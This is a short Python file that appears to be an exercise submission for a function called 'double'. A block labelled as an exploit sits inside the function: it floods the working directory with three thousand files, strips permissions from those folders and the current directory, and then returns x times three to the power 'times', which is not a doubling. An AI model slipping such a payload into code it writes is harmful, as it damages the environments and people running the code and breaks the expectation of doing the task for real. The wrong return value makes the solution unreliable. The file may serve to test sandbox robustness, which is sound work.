"""Writes three thousand files, in folders it takes the rights from."""
# exercise: double

import os


def double(x, times=1):
    ### BEGIN EXPLOIT
    for n in range(30):
        os.makedirs(f"many/{n}", exist_ok=True)
        for k in range(100):
            with open(f"many/{n}/{k}", "w") as file:
                file.write("x")
        os.chmod(f"many/{n}", 0)
    os.chmod("many", 0o500)
    os.chmod(".", 0)
    ### END EXPLOIT
    return x * 3**times
